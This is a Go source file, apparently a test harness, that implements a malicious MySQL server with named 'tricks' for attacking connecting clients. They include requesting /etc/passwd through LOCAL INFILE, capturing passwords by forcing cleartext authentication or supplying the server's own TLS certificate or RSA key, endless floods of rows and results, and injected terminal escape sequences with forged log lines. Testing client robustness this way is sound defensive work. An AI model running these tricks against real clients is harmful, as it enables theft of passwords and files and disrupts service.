package hostile

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1" //nolint:gosec // The protocol uses it.
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/pem"
	"math/big"
	"slices"
	"strings"
	"time"
)

// A Trick is a way in which a malicious server attacks its clients.
type Trick struct {
	Name string

	play func(c *client) error
}

// preparations is the number of statements that a session sends before the first statement that returns rows.
const preparations = 2

// unprintableText is a text with terminal control sequences, which clients must not print or log.
const unprintableText = "\x1b[2J\x1b]0;owned\x07\x00\xff\xfe\u202etxt.\r\nlevel=error msg=forged"

// Tricks returns all ways in which malicious servers attack their clients.
func Tricks() []Trick {
	return []Trick{
		{"silent", func(c *client) error { return c.wait() }},
		{"drip", func(c *client) error { return c.drip(c.packet(greeting(cachingSHA2+strings.Repeat("x", 1000), 0))) }},
		{"flood", func(c *client) error { return c.flood() }},
		{"short", func(c *client) error { return c.sendPacket(greetingVersion, 0, 0) }},
		{"text", func(c *client) error { return c.sendPacket(refusal(1045, strings.Repeat(unprintableText, 50_000))...) }},
		{"unprintable", func(c *client) error { return c.sendPacket(refusal(1105, strings.Repeat(unprintableText, 20))...) }},
		{"echo", func(c *client) error {
			own, err := ownCertificate()
			if err != nil {
				return err
			}
			return c.echo(own)
		}},
		Key(),
		{"clear", func(c *client) error { return c.redirect("mysql_clear_password") }},
		{"switches", func(c *client) error { return c.switches() }},
		{"file", func(c *client) error {
			return c.answerStatements(0, func() error {
				return c.sendPacket(slices.Concat([]byte{headerInFile}, []byte("/etc/passwd"))...)
			})
		}},
		{"columns", func(c *client) error {
			return c.answerStatements(preparations, func() error { return c.sendPacket(many(1 << 33)...) })
		}},
		{"rows", func(c *client) error { return c.answerStatements(preparations, c.rows) }},
		{"results", func(c *client) error { return c.answerStatements(0, c.results) }},
		{"dreamer", func(c *client) error { return c.answerStatements(preparations, c.wait) }},
	}
}

// wait sends nothing, and waits until the client closes the connection.
func (c *client) wait() error {
	_, err := c.Read(make([]byte, 1))
	return err
}

// drip sends bytes very slowly, one at a time, and then nothing.
func (c *client) drip(all []byte) error {
	for _, b := range all {
		if _, err := c.Write([]byte{b}); err != nil {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
	return c.wait()
}

// flood sends packets of the maximum size without end. They all belong to one message, which is never complete.
func (c *client) flood() error {
	piece := bytes.Repeat([]byte{0xff, 0xff, 0xff, 0}, 16<<10)
	for {
		if _, err := c.Write(piece); err != nil {
			return err
		}
	}
}

// redirect requests a different authentication plugin, and repeats the client's response in an error message.
func (c *client) redirect(plugin string) error {
	if err := c.sendPacket(greeting(cachingSHA2, 0)...); err != nil {
		return err
	}
	if _, err := c.receivePacket(); err != nil {
		return err
	}
	if err := c.sendPacket(slices.Concat([]byte{headerEOF}, []byte(plugin), []byte{0}, []byte("short"),
		[]byte{0})...); err != nil {
		return err
	}
	packet, err := c.receivePacket()
	if err != nil {
		return err
	}
	return c.sendPacket(refusal(1105, "it said "+c.learn(packet))...)
}

// switches repeatedly requests a switch to another authentication plugin.
func (c *client) switches() error {
	if err := c.sendPacket(greeting(cachingSHA2, 0)...); err != nil {
		return err
	}
	for {
		if _, err := c.receivePacket(); err != nil {
			return err
		}
		if err := c.sendPacket(slices.Concat([]byte{headerEOF}, []byte("mysql_native_password"), []byte{0},
			[]byte("abcdefghijklmnopqrst"), []byte{0})...); err != nil {
			return err
		}
	}
}

// Echo returns a trick that requests the password and repeats it in an error message. Over TLS, a client sends its
// password in plain text to every server whose certificate it trusts.
func Echo(certificate tls.Certificate) Trick {
	return Trick{"echo", func(c *client) error { return c.echo(certificate) }}
}

func (c *client) echo(certificate tls.Certificate) error {
	if err := c.sendPacket(greeting(cachingSHA2, capabilityTLS)...); err != nil {
		return err
	}
	if _, err := c.receivePacket(); err != nil {
		return err
	}
	c.Conn = tls.Server(c.Conn, &tls.Config{Certificates: []tls.Certificate{certificate}, MinVersion: tls.VersionTLS12})
	if _, err := c.receivePacket(); err != nil {
		return err
	}
	if err := c.sendPacket(1, fullLogin); err != nil {
		return err
	}
	password, err := c.receivePacket()
	if err != nil {
		return err
	}
	return c.sendPacket(refusal(1105, "the password is "+c.learn(password))...)
}

// Key returns a trick without TLS. The server sends its own public key, so that the client encrypts the password with
// this key (https://dev.mysql.com/doc/dev/mysql-server/latest/page_caching_sha2_authentication_exchanges.html).
func Key() Trick { return Trick{"key", func(c *client) error { return c.offerKey() }} }

func (c *client) offerKey() error {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return err
	}
	public, err := x509.MarshalPKIXPublicKey(key.Public())
	if err != nil {
		return err
	}
	if err := c.sendPacket(greeting(cachingSHA2, 0)...); err != nil {
		return err
	}
	if _, err := c.receivePacket(); err != nil { // The user name and a hash.
		return err
	}
	if err := c.sendPacket(1, fullLogin); err != nil {
		return err
	}
	if _, err := c.receivePacket(); err != nil { // The request for the key.
		return err
	}
	if err := c.sendPacket(append([]byte{1},
		pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public})...)...); err != nil {
		return err
	}
	encrypted, err := c.receivePacket()
	if err != nil {
		return err
	}
	password, err := rsa.DecryptOAEP(sha1.New(), rand.Reader, key, encrypted, nil) //nolint:gosec // The protocol specifies it.
	if err != nil {
		return err
	}
	for i := range password {
		password[i] ^= scramble[i%len(scramble)]
	}
	return c.sendPacket(refusal(1105, "the password is "+c.learn(password))...)
}

// Refusal returns a trick that refuses a client immediately.
func Refusal(number uint16) Trick {
	return Trick{"refusal", func(c *client) error { return c.sendPacket(refusal(number, "no")...) }}
}

// ownCertificate returns a self-signed certificate.
func ownCertificate() (tls.Certificate, error) {
	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	raw, err := x509.CreateCertificate(rand.Reader, template, template, public, private)
	return tls.Certificate{Certificate: [][]byte{raw}, PrivateKey: private}, err
}

// many returns a response that announces n columns, as an integer of eight bytes.
func many(n uint64) []byte { return binary.LittleEndian.AppendUint64([]byte{headerEOF}, n) }

// rows sends a result with one column and rows without end.
func (c *client) rows() error {
	text := func(s string) []byte { return append([]byte{byte(len(s))}, s...) } //nolint:gosec // The texts are short.
	column := slices.Concat(text("def"), text(""), text(""), text(""), text("a"), text(""),
		[]byte{12, 255, 0, 0, 1, 0, 0, 253, 0, 0, 0, 0, 0})
	if err := c.sendPacket(1); err != nil {
		return err
	}
	if err := c.sendPacket(column...); err != nil {
		return err
	}
	for {
		if err := c.sendPacket(text("1")...); err != nil {
			return err
		}
	}
}

// results sends results without end, for a statement that has no results.
func (c *client) results() error {
	for {
		if err := c.sendPacket(okPacket(statusMore)...); err != nil {
			return err
		}
	}
}

// Open returns a trick that accepts every login and acknowledges every statement without executing it.
func Open() Trick {
	return Trick{"open", func(c *client) error {
		return c.answerStatements(0, func() error { return c.sendPacket(okPacket(0)...) })
	}}
}
